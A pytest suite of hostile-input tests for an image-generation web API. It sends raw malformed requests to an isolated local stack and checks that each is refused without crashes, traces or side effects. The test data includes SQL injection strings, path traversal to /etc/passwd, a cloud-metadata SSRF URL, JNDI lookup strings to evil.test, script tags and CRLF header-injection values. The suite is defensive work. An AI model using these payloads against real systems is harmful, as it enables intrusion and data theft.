"""Bad input: never a 5xx, never a stack trace, never an effect. What is sent here no HTTP library would send."""

from __future__ import annotations

import http.client
import json
import random
import socket
from collections.abc import Generator, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
import requests

from local.stack import Stack, isolated_stack
from tests.clients.conftest import COMPAT_KEY, all_generations, stats
from tests.e2e.conftest import result, start

_SUBMIT = "/openai/images/generations:submit?api-version=2023-06-01-preview"
_JSON = ("Content-Type", "application/json")
_TRACES = ("Traceback", 'File "', ".py", "pydantic", "azure.storage", "blob.core", "AccountKey", "devstoreaccount1")


@dataclass(frozen=True)
class Answer:
    status: int
    headers: list[tuple[str, str]]
    """Names in lower case."""
    body: bytes

    def values(self, name: str) -> list[str]:
        return [value for found, value in self.headers if found == name]


def _send(
    base_url: str,
    method: str,
    target: str | bytes,
    headers: Sequence[tuple[str | bytes, str | bytes]] = (),
    body: bytes = b"",
) -> Answer:
    """Byte for byte as given: no check, no escaping, no default but Host and Content-Length."""
    base = urlsplit(base_url)
    lines = [b"%s %s HTTP/1.1" % (method.encode(), base.path.encode() + _bytes(target)), b"Connection: close"]
    lines += [b"Host: " + base.netloc.encode(), b"Content-Length: %d" % len(body)]
    lines += [_bytes(name) + b": " + _bytes(value) for name, value in headers]
    with socket.create_connection((base.hostname, base.port), timeout=30) as connection:
        connection.sendall(b"\r\n".join(lines) + b"\r\n\r\n" + body)
        response = http.client.HTTPResponse(connection, method=method)
        response.begin()
        return Answer(response.status, [(name.lower(), text) for name, text in response.getheaders()], response.read())


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


@dataclass
class Watch:
    """Notices an effect."""

    stack: Stack
    before: dict[str, Any] = field(default_factory=dict[str, Any])

    def look(self) -> dict[str, Any]:
        counted = stats(self.stack)
        return {
            "generations": sorted((found["id"], found["status"]) for found in all_generations(self.stack)),
            "upstream": [counted[name] for name in ("submits", "operations", "deletes")],
        }


@pytest.fixture
def no_effect(quiet_stack: Stack) -> Generator[None]:
    """The list of generations and what the image service counted are after the test what they were before."""
    watch = Watch(quiet_stack)
    before = watch.look()
    yield
    assert watch.look() == before


@pytest.fixture(scope="module")
def quiet_stack() -> Generator[Stack]:
    """An app that nobody else works with, so that every effect is ours. It has two generations to lose."""
    with isolated_stack("--speed", "0", POLL_SCHEDULE="* * * * * *", COMPAT_API_KEYS=COMPAT_KEY) as running:
        assert result(start(running.base_url, "a lighthouse").headers["Location"]).status_code == 200
        start(running.base_url, "a lighthouse [never]")
        yield running


def _assert_refused(answer: Answer, *, statuses: Sequence[int] = range(400, 500)) -> None:
    assert answer.status in statuses, answer
    text = answer.body.decode()
    assert not [trace for trace in _TRACES if trace in text], text
    if answer.values("x-ms-request-id"):  # else the HTTP server itself refused it
        error = json.loads(text)["error"]
        assert answer.values("x-ms-error-code") == [error["code"]]
        assert len(text) < 20_000, "an answer does not grow with the question"


def _nested(depth: int, opening: str = "[", closing: str = "]") -> bytes:
    return (f'{{"prompt": {opening * depth}1{closing * depth}}}').encode()


def _object(**fields: Any) -> bytes:
    return json.dumps({"prompt": "a thing", **fields}).encode()


_BODIES = {
    "nothing": b"",
    "not JSON": b"prompt=a+thing",
    "cut off": b'{"prompt": "a thi',
    "two documents": b'{"prompt": "a thing"}{"prompt": "a thing"}',
    "a comment": b'{"prompt": "a thing"} // really',
    "single quotes": b"{'prompt': 'a thing'}",
    "a list": b'[{"prompt": "a thing"}]',
    "a string": b'"a thing"',
    "null": b"null",
    "a number": b"1e999",
    "NaN": b'{"prompt": "a thing", "n": NaN}',
    "infinity": b'{"prompt": "a thing", "n": 1e999}',
    "binary": bytes(range(256)),
    "zeros": b"\0" * 1_000,
    "Latin-1": '{"prompt": "ein Schiff über Köln"}'.encode("latin-1"),
    "UTF-16": '{"prompt": "a thing"}'.encode("utf-16"),
    "UTF-32": '{"prompt": "a thing"}'.encode("utf-32"),
    "UTF-8 with a mark": b'\xef\xbb\xbf{"prompt": "a thing"}',
    "overlong UTF-8": b'{"prompt": "\xc0\xaf"}',
    "half a surrogate in UTF-8": b'{"prompt": "\xed\xa0\x80"}',
    "half a surrogate escaped": rb'{"prompt": "\ud800"}',
    "a raw line break": b'{"prompt": "a\nthing"}',
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "deep lists": _nested(20_000),
    "deep objects": _nested(20_000, '{"a":', "}"),
    "deep and never closed": b'{"prompt":' + b"[" * 100_000,
    "an unknown field": _object(promt="a thing"),
    "many unknown fields": _object(**{f"field{number}": number for number in range(5_000)}),
    "an unknown field with a long name": _object(**{"x" * 100_000: 1}),
    "a prototype": _object(__proto__={"n": 5}, constructor={"prototype": {}}),
    "our own fields": _object(id=str(uuid4()), token="x", status="succeeded", operation_location="http://evil.test"),
    "aliases": _object(timeout_seconds=30, outputFormat="png"),
    "n as a string": _object(n="2"),
    "n as a fraction": _object(n=1.5),
    "n as true": _object(n=True),
    "n huge": _object(n=10**400),
    "n negative": _object(n=-(2**63)),
    "n eleven": _object(n=11),
    "timeoutSeconds huge": _object(timeoutSeconds=10**30),
    "prompt a number": _object(prompt=1),
    "prompt null": _object(prompt=None),
    "prompt empty": _object(prompt=""),
    "prompt blank": _object(prompt=" \t\n\u00a0\u2003"),
    "prompt too long": _object(prompt="x" * 1_001),
    "prompt far too long": _object(prompt="x" * 200_000),
    "size as SQL": _object(size="1024x1024'; DROP TABLE generations; --"),
    "size huge": _object(size="99999x99999"),
    "size with a line break": _object(size="512x512\n"),
    "size in other digits": _object(size="\u0665\u0661\u0662x512"),
    "model as a path": _object(model="../../etc/passwd"),
    "model as a URL": _object(model="http://169.254.169.254/"),
    "metadata a list": _object(metadata=["a"]),
    "metadata of numbers": _object(metadata={"a": 1}),
    "metadata nested": _object(metadata={"a": {"b": "c"}}),
    "metadata with an empty key": _object(metadata={"": "a"}),
    "metadata too many": _object(metadata={str(number): "" for number in range(17)}),
    "metadata too long": _object(metadata={"a": "x" * 513}),
    "too large": _object(prompt="x" * 300_000),
    "far too large": b" " * 5_000_000,
}


@pytest.mark.usefixtures("no_effect")
def test_a_bad_body_is_refused(quiet_stack: Stack) -> None:
    for route, headers in (("/generations", [_JSON]), (_SUBMIT, [_JSON, ("api-key", COMPAT_KEY)])):
        for name, body in _BODIES.items():
            answer = _send(quiet_stack.base_url, "POST", route, headers, body)
            try:
                _assert_refused(answer, statuses=(400, 413))
            except AssertionError as error:
                raise AssertionError(f"{name}, {route}: {error}") from error


@pytest.mark.usefixtures("no_effect")
def test_mutations_of_a_good_body_are_refused_or_mean_the_same(quiet_stack: Stack) -> None:
    """Bytes flipped, dropped and doubled. The prompt is left out, so that whatever is still JSON is not a request."""
    dice = random.Random(4711)
    good = json.dumps({"n": 1, "size": "512x512", "metadata": {"a": "b"}, "timeoutSeconds": 60}).encode()
    for _ in range(150):
        body = bytearray(good)
        for _ in range(dice.randint(1, 4)):
            at = dice.randrange(len(body))
            body[at : at + dice.randint(0, 2)] = dice.randbytes(dice.randint(0, 3))
        _assert_refused(_send(quiet_stack.base_url, "POST", "/generations", [_JSON], bytes(body)), statuses=(400,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/jsonp",
        "\x00",
        "x" * 10_000,
        ",",
        "é",
    ],
)
def test_a_body_that_does_not_say_that_it_is_json_is_refused(quiet_stack: Stack, content_type: str) -> None:
    headers = [("Content-Type", content_type)]
    answer = _send(quiet_stack.base_url, "POST", "/generations", headers, _object())
    _assert_refused(answer, statuses=(400, 415, 431))


_IDS = [
    "x",
    "%00",
    "..%2f..%2fgenerations",
    "..%5c..%5cactive",
    "%2e%2e%2fdone",
    "..",
    ".",
    "%252e%252e%252f",
    "active%2f01900000-0000-7000-8000-000000000000",
    "' OR '1'='1".replace(" ", "%20"),
    "1;DROP%20TABLE%20generations",
    "$%7bjndi:ldap://evil.test/a%7d",
    "{{7*7}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aX-Injected:%20yes",
    "%ff%fe",
    "%c0%ae%c0%ae",
    "%ed%a0%80",
    "é",
    "%E2%80%AE",
    "9" * 400,
    "-1",
    "0x7f",
    "null",
    "x" * 5_000,
    "01900000-0000-4000-8000-000000000000",  # a UUID, but not of version 7
    "01900000-0000-7000-8000-00000000000g",
    "01900000-0000-7000-8000-000000000000%00",
    "01900000-0000-7000-8000-000000000000%20",
    "01900000-0000-7000-8000-000000000000%0a",
    "01900000-0000-7000-8000-000000000000.json",
    "01900000000070008000000000000000",
    "%7B01900000-0000-7000-8000-000000000000%7D",
    "urn:uuid:01900000-0000-7000-8000-000000000000",
    "%D9%A0%D9%A1900000-0000-7000-8000-000000000000",  # digits of another script
]
"""None of these can be an id of ours."""


def _routes_of_an_id(generation_id: str) -> list[tuple[str, str, list[tuple[str, str]]]]:
    old = f"/openai/operations/images/{generation_id}?api-version=2023-06-01-preview"
    key = [("api-key", COMPAT_KEY)]
    return [
        ("GET", f"/generations/{generation_id}?token=x", []),
        ("GET", f"/generations/{generation_id}/result?token=x", []),
        ("POST", f"/generations/{generation_id}/cancel?token=x", []),
        ("DELETE", f"/generations/{generation_id}?token=x", []),
        ("GET", old, key),
        ("DELETE", old, key),
    ]


@pytest.mark.usefixtures("no_effect")
def test_an_id_that_is_not_ours_is_not_found(quiet_stack: Stack) -> None:
    _ids_are_not_found(quiet_stack, _IDS)


def test_an_id_that_is_not_ours_is_not_found_before_storage_is_asked() -> None:
    with isolated_stack(POLL_SCHEDULE="0 0 0 1 1 *", COMPAT_API_KEYS=COMPAT_KEY) as stack:
        made = start(stack.base_url, "a lighthouse").headers["Operation-Location"]
        assert stack.storage is not None
        stack.storage.process.kill()

        _ids_are_not_found(stack, _IDS)
        assert requests.get(made.partition("?")[0], timeout=30).status_code == 404, "no token, so nothing to compare"
        with pytest.raises(requests.ConnectionError):  # storage is really gone
            requests.get(stack.storage.blob_endpoint, timeout=30)
        stack.host.kill()  # asked to end, it would wait for storage


def _ids_are_not_found(stack: Stack, ids: Sequence[str]) -> None:
    for generation_id in ids:
        for method, target, headers in _routes_of_an_id(generation_id):
            answer = _send(stack.base_url, method, target, headers)
            if method == "DELETE" and answer.status == 204:
                assert not answer.body
                continue  # 204 whether there was something or not
            _assert_refused(answer, statuses=(404, 405, 400))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "token",
    ["", "x", "%00", "%ff", "é", "x" * 10_000, "%0d%0aX-Injected:%20yes", "' OR 1=1 --".replace(" ", "%20"), "null"],
)
def test_a_wrong_token_opens_nothing(quiet_stack: Stack, token: str) -> None:
    known = all_generations(quiet_stack)[0]
    right = known["urls"]["self"].partition("token=")[2]
    for query in (f"token={token}", f"token={token}&token={right}", f"token[]={right}", f"TOKEN={right[:-1]}"):
        for method, suffix in (("GET", ""), ("GET", "/result"), ("POST", "/cancel"), ("DELETE", "")):
            answer = _send(quiet_stack.base_url, method, f"/generations/{known['id']}{suffix}?{query}")
            if method == "DELETE" and answer.status == 204:
                continue  # and `no_effect` sees that it is still there
            _assert_refused(answer, statuses=(404,) if query.isascii() else (400,))


_QUERIES = [
    "status=done",
    "status=Succeeded",
    "status=succeeded&status=failed",
    "status=%00",
    "status=succeeded%0a",
    "status=" + "x" * 5_000,
    "maxpagesize=0",
    "maxpagesize=101",
    "maxpagesize=-1",
    "maxpagesize=1e2",
    "maxpagesize=" + "9" * 5_000,
    "maxpagesize=%D9%A1",  # a digit that int() would take
    "maxpagesize=%20%31",
    "maxpagesize=1&maxpagesize=2",
    "after=x",
    "after=%00",
    "after=%ff%fe",
    "after=" + "A" * 8_000,
    "after=..%2f..%2f",
    "after=bnVsbA",  # null
    "after=W10",  # []
    "after=WzEsMl0",  # [1,2]
    "after=" + "W1tb" * 1_500,
]


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("query", _QUERIES, ids=lambda query: query[:40])
def test_a_bad_query_of_the_list_is_refused(quiet_stack: Stack, query: str) -> None:
    _assert_refused(_send(quiet_stack.base_url, "GET", f"/generations?{query}"), statuses=(400,))


_NASTY_HEADERS: dict[str, str | bytes] = {
    "empty": "",
    "long": "x" * 10_000,
    "a line break": "a\r\n X-Injected: yes",
    "a bare CR": b"a\rX-Injected: yes",
    "a tab": "a\tb",
    "Latin-1": b"\xe9\xff",
    "UTF-8": "ключ",
    "quotes": '"',
    "an open quote": '"abc',
    "backslashes": '"\\',
    "markup": "<script>alert(1)</script>",
    "SQL": "' OR 1=1 --",
    "a format": "%s%n{0}${jndi:ldap://evil.test/a}",
    "a path": "../../done/x",
    "many commas": "," * 1_000,
    "wait": "wait=" + "9" * 4_000,
    "wait below zero": "wait=-1",
    "other digits": "wait=\u0665",
}


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("value", _NASTY_HEADERS.values(), ids=_NASTY_HEADERS)
def test_a_nasty_header_changes_nothing(quiet_stack: Stack, value: str | bytes) -> None:
    """With a body that is refused, so that no header can turn it into a generation."""
    names = ["x-ms-client-request-id", "Prefer", "Idempotency-Key", "Repeatability-Request-ID", "Operation-Id"]
    names += [
        "traceparent",
        "tracestate",
        "x-ms-workflow-run-id",
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "Accept",
        "Cookie",
    ]
    for name in names:
        for headers in ([(name, value)], [(name, value), (name, "b")]):
            answer = _send(quiet_stack.base_url, "POST", "/generations", [_JSON, *headers], b'{"n": 1}')
            _assert_refused(answer, statuses=(400, 431))
            assert not answer.values("x-injected")
            assert all("\r" not in text and "\n" not in text for _, text in answer.headers)


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("header", ["Idempotency-Key", "Repeatability-Request-ID", "Operation-Id"])
@pytest.mark.parametrize("value", ["", '"', '""', '"abc', "x" * 256, "é", b"\xff", '"\\n"', "a\tb"])
def test_a_bad_key_is_refused_with_a_good_body(quiet_stack: Stack, header: str, value: str | bytes) -> None:
    answer = _send(quiet_stack.base_url, "POST", "/generations", [_JSON, (header, value)], _object())
    _assert_refused(answer, statuses=(400,))
    assert answer.values("x-ms-error-code") == ["invalidHeader"]


@pytest.mark.usefixtures("no_effect")
def test_two_keys_that_disagree_are_refused(quiet_stack: Stack) -> None:
    headers = [_JSON, ("Idempotency-Key", "a"), ("Repeatability-Request-ID", "b")]
    _assert_refused(_send(quiet_stack.base_url, "POST", "/generations", headers, _object()), statuses=(400,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "key", ["", "x", COMPAT_KEY[:-1], COMPAT_KEY + "x", "é", b"\xff\xfe", "x" * 10_000, f"{COMPAT_KEY},x"]
)
def test_a_wrong_api_key_opens_nothing(quiet_stack: Stack, key: str | bytes) -> None:
    headers = [_JSON, ("api-key", key)]
    _assert_refused(_send(quiet_stack.base_url, "POST", _SUBMIT, headers, _object()), statuses=(401,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "host",
    [
        "evil.test",
        "127.0.0.1@evil.test",
        "evil.test#127.0.0.1",
        "127.0.0.1.evil.test",
        "[::1",
        ":",
        "é",
    ],
)
def test_a_host_header_that_nobody_vouches_for_is_never_handed_out(quiet_stack: Stack, host: str) -> None:
    base = urlsplit(quiet_stack.base_url)
    request = (
        f"POST {base.path}/generations HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Host: {host}\r\nConnection: close\r\n"
        "Content-Type: application/json\r\nContent-Length: 21\r\n\r\n" + '{"prompt": "a thing"}'
    )
    with socket.create_connection((base.hostname, base.port), timeout=30) as connection:
        connection.sendall(request.encode())
        response = http.client.HTTPResponse(connection, method="POST")
        response.begin()
        body = response.read().decode()
    assert response.status in (400, 503), body
    assert "evil.test" not in body
    assert not response.getheader("Location")


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "target", ["/", "//generations", "/generations//", "/Generations/../health/..", "/%00", "/admin/host/keys"]
)
@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "OPTIONS"])
def test_a_route_that_is_none_is_told_so(quiet_stack: Stack, method: str, target: str) -> None:
    _assert_refused(_send(quiet_stack.base_url, method, target), statuses=(404, 405))


def test_a_prompt_of_any_script_is_taken_as_it_is(quiet_stack: Stack) -> None:
    """The other side of it: what looks nasty and is right."""
    prompts = (
        "'; DROP TABLE x; --",
        "<b>\u202e\u0000",
        "\U0001f6a2 корабль 船",
        "%C3%A9",
        "\\u0041 ${7*7} {{7*7}}",
        "\ufeff\u200b.",
    )
    begun = {prompt: start(quiet_stack.base_url, prompt) for prompt in prompts}
    for prompt, answer in begun.items():
        monitor = result(answer.headers["Location"]).json()
        assert (monitor["status"], monitor["request"]["prompt"]) == ("succeeded", prompt)
